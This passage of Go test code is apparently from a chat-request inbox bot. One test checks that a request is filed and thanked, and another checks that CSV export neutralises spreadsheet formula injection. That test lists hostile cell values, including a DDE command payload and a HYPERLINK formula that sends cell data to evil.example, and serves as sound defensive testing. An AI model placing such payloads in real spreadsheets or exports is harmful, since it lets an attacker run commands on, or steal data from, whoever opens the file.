	if items, _ := f.store.Items(ctx); len(items) != 0 {
		t.Fatalf("a message read as a question was filed: %+v", items)
	}

	r := message("discord", "gen", "m2", "bob", "please add dark mode")
	r.Reading = bot.ReadingRequest
	if err := f.svc.Observe(ctx, r); err != nil {
		t.Fatal(err)
	}
	replies, err := route(r).Handler.Handle(ctx, r)
	if err != nil {
		t.Fatal(err)
	}
	items, _ := f.store.Items(ctx)
	if len(items) != 1 || len(items[0].Mentions) != 1 {
		t.Fatalf("items = %+v, want one with one mention", items)
	}
	if len(replies) != 1 || !strings.Contains(replies[0].Text, "#1") || len(f.post.all()) != 0 {
		t.Fatalf("replies %+v, posts %+v: want the thanks as the one reply and no post", replies, f.post.all())
	}
}

// Test: anyone in chat can write the text of an inbox item, and a
// spreadsheet runs a cell that starts with = + - @ TAB or CR as a formula
// (OWASP "CSV injection"): such cells get a leading single quote, and the
// numbers and dates the export writes itself stay numbers.
func TestCSVNeutralisesFormulas(t *testing.T) {
	hostile := []string{`=cmd|' /C calc'!A0`, `=HYPERLINK("https://evil.example/?"&A1,"Click")`, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"}
	var items []request.Item
	for i, h := range hostile {
		items = append(items, request.Item{ID: i + 1, Title: h, Summary: h, Status: request.StatusNew, Tags: []string{h},
			VoteCount: 2, Created: t0, Updated: t0,
			Mentions: []request.Mention{{Platform: "web", Channel: h, Text: h, Permalink: h}}})
	}
	var buf bytes.Buffer
	if err := inbox.WriteCSV(&buf, items, t0); err != nil {
		t.Fatal(err)
	}
	back, err := inbox.ReadCSV(&buf)
	if err != nil {
		t.Fatal(err)
	}
	for i, h := range hostile {
		// encoding/csv does not read a lone \r back as written.
		norm := strings.NewReplacer("\r", "", "\n", "").Replace
		want := norm("'" + h)
		it := back[i]
		if norm(it.Title) != want || norm(it.Summary) != want || norm(strings.Join(it.Tags, ";")) != want || len(it.Mentions) != 1 || norm(it.Mentions[0].Text) != want {
			t.Errorf("item %d: title %q, summary %q, tags %q, first request %+v; want each %q", i+1, it.Title, it.Summary, it.Tags, it.Mentions, want)
		}
		if it.VoteCount != 2 || it.ID != i+1 {
			t.Errorf("item %d: numbers changed: id %d votes %d", i+1, it.ID, it.VoteCount)
		}
	}
	buf.Reset()
	if err := inbox.WriteCSV(&buf, items[:1], t0); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for col, cell := range rows[1] {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("column %s = %q: a spreadsheet would run it", inbox.CSVHeader[col], cell)
		}
	}
}
